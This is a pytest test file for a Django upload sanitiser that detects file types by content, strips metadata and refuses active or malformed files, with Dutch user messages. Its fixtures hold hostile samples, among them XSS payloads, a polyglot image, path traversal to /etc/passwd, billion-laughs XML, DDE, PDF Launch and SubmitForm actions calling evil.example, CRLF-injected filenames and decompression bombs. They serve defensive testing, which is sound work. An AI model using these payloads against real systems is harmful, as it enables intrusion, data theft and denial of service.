"""Files that people send: known by what is in them, washed, or refused with what to do (QUALITY.md R2, trust)."""

from __future__ import annotations

import subprocess
import sys
import zlib
from io import BytesIO
from zipfile import ZipFile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name
from PIL import Image

from samenwerking.errors import Refused
from samenwerking.uploads import MEGABYTE, WASHING, WHY, name_of, receive, washing
from tests.uploads import files
from tests.uploads.files import a_document, a_jpeg, a_pdf, a_picture, an_action, an_odf, zipped


def refused(content: bytes) -> str:
    """The word with which the washer refuses it."""
    with pytest.raises(washing.Unwanted) as why:
        washing.wash(content)
    return str(why.value)


def sent(content: bytes, name: str = "plan.pdf"):
    return receive(SimpleUploadedFile(name, content))


KINDS = {
    "pdf": a_pdf(),
    "jpg": a_jpeg(),
    "png": a_picture("PNG"),
    "webp": a_picture("WEBP"),
    "docx": a_document(),
    "xlsx": a_document(files.SHEET),
    "odt": an_odf(),
    "ods": an_odf("spreadsheet"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_is_known_by_what_is_in_it_whatever_it_is_called(kind):
    washed = sent(KINDS[kind], "plan.exe")

    assert (washed.kind, washed.name) == (kind, f"plan.exe.{kind}")


@pytest.mark.parametrize("kind", KINDS)
def test_what_was_washed_can_be_washed_again(kind):
    once = sent(KINDS[kind])

    assert sent(once.content).kind == kind


def test_a_wrong_ending_becomes_the_right_one():
    assert sent(a_jpeg(), "foto.png").name == "foto.jpg"
    assert sent(a_jpeg(), "foto.JPEG").name == "foto.JPEG"


def test_the_place_and_the_camera_are_gone_from_a_photo_and_it_stands_upright():
    washed = sent(a_jpeg((40, 30), gps=True), "foto.jpg")

    with Image.open(BytesIO(washed.content)) as image:
        assert dict(image.getexif()) == {}
        assert image.size == (30, 40)
    assert b"kanarie" not in washed.content


def test_remarks_in_a_png_are_gone():
    told = Image.Exif()
    told[0x010E] = "kanarie-plaats"

    assert b"kanarie" not in sent(a_picture("PNG", exif=told), "plan.png").content


@pytest.mark.parametrize("kind", ["pdf", "docx", "odt"])
def test_who_made_a_document_is_gone(kind):
    content = sent(KINDS[kind]).content

    assert b"kanarie" not in content
    if kind != "pdf":
        with ZipFile(BytesIO(content)) as packed:
            assert not any(b"kanarie" in packed.read(name) for name in packed.namelist())
            assert {info.date_time[0] for info in packed.infolist()} == {1980}
    else:
        with pikepdf.open(BytesIO(content)) as pdf:
            assert "/Info" not in pdf.trailer
            assert "/Metadata" not in pdf.Root


def test_the_place_is_gone_from_a_photo_within_a_document_and_within_a_pdf():
    photo = a_jpeg(gps=True)
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        image = Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=40, Height=30, BitsPerComponent=8)
        drawn = pdf.make_stream(photo, image)
        drawn.Filter, drawn.ColorSpace = Name.DCTDecode, Name.DeviceRGB
        page.Resources = Dictionary(XObject=Dictionary(Im=drawn))
        out = BytesIO()
        pdf.save(out)

    document = sent(a_document(word__media__foto_jpg=photo)).content
    printed = sent(out.getvalue()).content

    assert b"kanarie" in photo
    with ZipFile(BytesIO(document)) as packed:
        inner = packed.read("word/media/foto_jpg")
    assert b"kanarie" not in inner
    assert Image.open(BytesIO(inner)).size == (40, 30)
    assert b"kanarie-camera" not in printed
    with pikepdf.open(BytesIO(printed)) as washed:
        kept = washed.pages[0].Resources.XObject.Im.read_raw_bytes()
    assert b"kanarie" not in kept
    assert Image.open(BytesIO(kept)).size == (40, 30)


def test_who_wrote_a_remark_in_a_document_is_gone():
    remark = b'<w:c xmlns:w=\'x\' w:author="kanarie-schrijver" w:initials="kanarie">Mooi</w:c>'

    with ZipFile(
        BytesIO(sent(a_document(word__comments_xml=remark, **{"word__comments.xml": remark})).content)
    ) as packed:
        assert b"kanarie" not in packed.read("word/comments.xml")


def test_what_hangs_after_or_within_a_picture_does_not_come_along():
    hidden = zipped({"kwaad.html": b"<script>alert(1)</script>"})
    polyglot = a_jpeg(comment=b"<html><script>alert(1)</script>") + hidden

    washed = sent(polyglot, "foto.jpg")

    assert b"script" not in washed.content
    assert b"PK\x03\x04" not in washed.content


def test_what_stands_after_a_pdf_or_a_document_does_not_come_along():
    assert b"<script>" not in sent(a_pdf() + b"\n<script>alert(1)</script>").content
    assert b"<script>" not in sent(a_document() + b"", "plan.docx").content


NOT_TAKEN = {
    "web page": b"<!DOCTYPE html><script>alert(1)</script>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "gif and jar": b"GIF89a" + zipped({"a.class": b"x"}),
    "program": b"MZ" + bytes(2000),
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "zip": zipped({"lees.txt": b"x"}),
    "template": a_document(files.WORD.replace("document.main", "template.main")),
    "presentation": an_odf("presentation"),
    "web page before a pdf": b"<script>alert(1)</script>" + a_pdf(),
}


@pytest.mark.parametrize("what", NOT_TAKEN)
def test_other_kinds_are_refused_whatever_they_are_called(what):
    assert refused(NOT_TAKEN[what]) == "kind"


BROKEN = {
    "cut off photo": a_jpeg((400, 300))[:400],
    "cut off document": a_document()[:-60],
    "only a beginning": b"%PDF-1.7\n",
    "path": zipped({"../../etc/passwd": b"x", "[Content_Types].xml": b"<x/>"}),
    "other alphabet": a_document(
        **{"word__a.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")},
    ),
    "laughs": a_document(
        **{"word__a.xml": b"<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"},
    ),
}


@pytest.mark.parametrize("what", BROKEN)
def test_a_file_that_cannot_be_read_is_refused(what):
    with pytest.raises(Refused, match="kunnen we niet lezen"):
        sent(BROKEN[what])


ACTIVE = {
    "macros under another name": a_document(files.MACRO, **{"word__vbaProject.bin": b"x"}),
    "macros under the right kind": a_document(**{"word__vbaProject.bin": b"x"}),
    "macro sheet": a_document(files.SHEET, **{"xl__macrosheets__sheet1.xml": b"<x/>"}),
    "activex": a_document(**{"word__activeX__activeX1.xml": b"<x/>"}),
    "template from elsewhere": a_document(
        **{"word___rels__settings.xml.rels": files.a_relation("attachedTemplate", "http://evil.example/a.dotm")}
    ),
    "link that runs": a_document(
        **{"word___rels__document.xml.rels": files.a_relation("hyperlink", "javascript:alert(1)")}
    ),
    "dde in two parts": a_document(body=b"<w:instrText> DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"),
    "basic": an_odf(**{"Basic__Standard__Module1.xml": b"<x/>"}),
    "listener": an_odf(content=b"<o xmlns:s='urn:x'><s:event-listener/></o>"),
    "picture from elsewhere": an_odf(
        content=b"<o xmlns:x='http://www.w3.org/1999/xlink'><image x:href='http://evil.example/a.png'/></o>"
    ),
    "javascript": a_pdf(OpenAction=an_action("JavaScript", JS="app.alert(1)")),
    "javascript by name": a_pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array()))),
    "launch": a_pdf(OpenAction=an_action("Launch", F="cmd.exe")),
    "form that sends": a_pdf(AA=Dictionary(WC=an_action("SubmitForm", F="http://evil.example"))),
    "another pdf": a_pdf(OpenAction=an_action("GoToR", F="//evil.example/a.pdf")),
    "xfa": a_pdf(AcroForm=Dictionary(XFA=Array())),
    "link to a file": a_pdf(OpenAction=an_action("URI", URI="file:///etc/passwd")),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_a_file_that_does_something_by_itself_is_refused(what):
    assert refused(ACTIVE[what]) == "active"


INSIDE = {
    "ole": a_document(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "zip in a document": a_document(**{"word__media__a.png": zipped({"b": b"c"})}),
    "program in a document": an_odf(**{"Pictures__a.png": b"MZ\x90"}),
    "file in a pdf": a_pdf(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array()))),
}


@pytest.mark.parametrize("what", INSIDE)
def test_a_file_within_a_file_is_refused(what):
    assert refused(INSIDE[what]) == "inside"


def test_the_washer_reaches_no_file_and_no_network():
    """In a process of its own, as the limits stay for good."""
    code = (
        "from washing.__main__ import confine; import socket; confine()\n"
        "for go in (lambda: open('/etc/passwd'), lambda: socket.socket().connect(('127.0.0.1', 9))):\n"
        "    try: print('reached', go())\n"
        "    except PermissionError: print('refused')"
    )

    told = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, env={"PYTHONPATH": str(WASHING)}
    )

    assert told.stdout.split() == ["refused", "refused"]


def a_packed_stream(times: int) -> bytes:
    """A PDF whose page holds gigabytes of nothing."""
    packed = zlib.compress(bytes(100 * MEGABYTE), 9) if times == 1 else zlib.compress(zlib.compress(b"x"))
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        stream = pdf.make_stream(packed)
        stream.Filter = Name.FlateDecode if times == 1 else Array([Name.FlateDecode] * times)
        page.Contents = Array(
            [stream, *(pdf.copy_foreign(stream) if False else pdf.make_stream(packed) for _ in range(5))]
        )
        for one in page.Contents:
            one.Filter = stream.Filter
        out = BytesIO()
        pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return out.getvalue()


BOMBS = {
    "much": lambda: a_document(word__a_bin=bytes(60 * MEGABYTE), word__b_bin=bytes(60 * MEGABYTE)),
    "dense": lambda: a_document(word__a_bin=bytes(20 * MEGABYTE)),
    "many": lambda: zipped({f"{number}": b"" for number in range(4000)}),
    "pdf": lambda: a_packed_stream(1),
    "packed twice": lambda: a_packed_stream(2),
}


@pytest.mark.parametrize("what", BOMBS)
def test_what_grows_when_it_is_unpacked_is_refused(what):
    assert refused(BOMBS[what]()) == "bomb"


def test_a_photo_with_far_too_many_pixels_is_refused_before_it_is_drawn():
    out = BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")

    with pytest.raises(Refused, match="te veel beeldpunten"):
        sent(out.getvalue())
    with pytest.raises(Refused, match="te veel beeldpunten"):
        sent(a_document(**{"word__media__a.png": out.getvalue()}))


def test_the_process_that_washes_is_bounded_and_says_so_in_words():
    """The same files as above, by the road of the portal."""
    said = {
        "vanzelf begint": ACTIVE["javascript"],
        "zit een ander bestand": INSIDE["ole"],
        "nemen we niet aan": NOT_TAKEN["svg"],
        "te groot als we het uitpakken": BOMBS["dense"](),
    }

    for words, content in said.items():
        with pytest.raises(Refused, match=words):
            sent(content)


def test_a_locked_file_is_refused():
    out = BytesIO()
    with pikepdf.open(BytesIO(a_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="een", user="twee"))

    with pytest.raises(Refused, match="wachtwoord"):
        sent(out.getvalue())


def test_nothing_and_too_much_are_refused_by_name():
    with pytest.raises(Refused, match="Dit bestand is leeg"):
        sent(b"", "leeg.pdf")
    with pytest.raises(Refused, match="hoogstens 10 MB"):
        sent(bytes(10 * MEGABYTE + 1), "groot.pdf")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\jan\\plan.pdf", "plan.pdf"),
        ("plan\u202efdp.exe", "planfdp.exe"),
        ("een\r\nSet-Cookie: a=b.pdf", "een Set-Cookie- a=b.pdf"),
        ('a"b<c>.pdf', "a-b-c-.pdf"),
        ("....", "bestand"),
        ("", "bestand"),
        ("x" * 300 + ".pdf", "x" * 110 + "….pdf"),
    ],
)
def test_a_name_is_only_a_name(given, kept):
    assert name_of(given) == kept


def test_every_refusal_says_what_to_do():
    assert all(
        any(word in text for word in ("Kies", "Maak", "Bewaar", "Haal", "Stuur", "Kijk")) for text in WHY.values()
    )
